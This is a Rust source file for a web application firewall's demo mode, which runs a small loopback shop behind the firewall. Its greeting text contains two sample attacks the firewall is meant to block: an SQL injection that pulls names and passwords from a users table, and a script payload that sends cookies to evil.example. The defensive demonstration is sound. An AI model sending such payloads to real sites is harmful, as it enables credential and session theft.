//! `waf demo`: a small shop in this process and a configuration that protects it, to try the service without a file
//! and without a network. It knows the compiler and one page of HTML, nothing of the supervisor.

use std::convert::Infallible;
use std::io;
use std::net::{Ipv4Addr, SocketAddr};
use std::path::Path;
use std::sync::Arc;
use std::time::Duration;

use bytes::Bytes;
use http_body_util::{BodyExt, Full, Limited};
use hyper::body::Incoming;
use hyper::header::{CONTENT_TYPE, HeaderValue};
use hyper::service::service_fn;
use hyper::{Request, Response, StatusCode};
use hyper_util::rt::{TokioIo, TokioTimer};
use tokio::net::TcpListener;
use tokio::sync::Semaphore;
use waf_compiler::{Compiled, Diagnostic, Options, compile_text};

/// The configuration; words in braces are filled in.
const CONFIGURATION: &str = include_str!("demo/waf.yaml");

/// The shop's only page.
const PAGE: &str = include_str!("demo/shop.html");

/// Connections of the shop; the service in front keeps a few.
const CONNECTIONS_MAX: usize = 256;

/// Bytes of a form that the shop reads.
const FORM_BYTES_MAX: usize = 1 << 20;

/// Time for a request head.
const HEAD_TIME: Duration = Duration::from_secs(10);

/// Binds the shop to a free port of the loopback address: the server to run, and its address.
pub fn upstream() -> io::Result<(impl Future<Output = ()> + Send + 'static, SocketAddr)> {
    let listener = std::net::TcpListener::bind((Ipv4Addr::LOCALHOST, 0))?;
    listener.set_nonblocking(true)?;
    let address = listener.local_addr()?;
    let listener = TcpListener::from_std(listener)?;
    Ok((shop(listener), address))
}

/// Compiles the demo's configuration.
pub fn compile(port: u16, upstream: SocketAddr, options: &Options) -> Result<Compiled, Vec<Diagnostic>> {
    let user = nix::unistd::getuid();
    let data_dir = std::env::temp_dir().join(format!("waf-demo-{user}"));
    let text = CONFIGURATION
        .replace("{port}", &port.to_string())
        .replace("{upstream}", &upstream.to_string())
        .replace("{data_dir}", &format!("{:?}", data_dir.to_string_lossy()));
    compile_text("demo.yaml", &text, Path::new("/"), options)
}

/// Requests to try, shown once the service is ready.
pub fn greeting(port: u16) -> String {
    format!(
        "\nThe demo shop is behind http://localhost:{port}/ now. Try, in another terminal:\n\
         \n  a visit, which passes:\n    curl -i \"http://localhost:{port}/products?page=2\"\n\
         \n  an SQL injection, which is blocked:\n    curl -i \"http://localhost:{port}/search?q=1%27%20UNION%20SELECT%20name,password%20FROM%20users--%20\"\n\
         \n  a script in a review, which is blocked:\n    curl -i http://localhost:{port}/reviews --data-urlencode \"review=<script>fetch('//evil.example/'+document.cookie)</script>\"\n\
         \nEach block is an event on stdout. Ctrl-C ends the demo.\n"
    )
}

async fn shop(listener: TcpListener) {
    let slots = Arc::new(Semaphore::new(CONNECTIONS_MAX));
    loop {
        let Ok(slot) = slots.clone().acquire_owned().await else { return };
        let Ok((stream, _)) = listener.accept().await else {
            tokio::time::sleep(Duration::from_millis(100)).await;
            continue;
        };
        tokio::spawn(async move {
            // A connection that breaks is over; the shop has nothing to add.
            let _ = hyper::server::conn::http1::Builder::new()
                .timer(TokioTimer::new())
                .header_read_timeout(HEAD_TIME)
                .serve_connection(TokioIo::new(stream), service_fn(page))
                .await;
            drop(slot);
        });
    }
}

/// Any path shows the page; a form is read to its end and thanked for.
async fn page(request: Request<Incoming>) -> Result<Response<Full<Bytes>>, Infallible> {
    let body = Limited::new(request.into_body(), FORM_BYTES_MAX).collect().await;
    let (status, text) = match body.map(http_body_util::Collected::to_bytes) {
        Ok(body) if body.is_empty() => (StatusCode::OK, PAGE.to_owned()),
        Ok(_) => (StatusCode::OK, PAGE.replace("<!-- notice -->", "<p>Thank you, we have noted it.</p>")),
        Err(_) => (StatusCode::BAD_REQUEST, String::new()),
    };
    let mut response = Response::new(Full::new(Bytes::from(text)));
    *response.status_mut() = status;
    response.headers_mut().insert(CONTENT_TYPE, HeaderValue::from_static("text/html; charset=utf-8"));
    Ok(response)
}

#[cfg(test)]
#[allow(clippy::unwrap_used)] // a failing test may panic
mod tests {
    use super::*;

    #[test]
    fn its_configuration_compiles_without_a_warning() {
        let options = Options { host_checks: false, ..Options::default() };
        let upstream = SocketAddr::from((Ipv4Addr::LOCALHOST, 9));
        let compiled = compile(8080, upstream, &options).unwrap();
        assert!(compiled.warnings.is_empty(), "{:?}", compiled.warnings);
        assert_eq!(compiled.plan.listen, waf_shared::plan::Listen::Plain { port: 8080 });
        assert_eq!(compiled.plan.routes.len(), 1);
    }
}
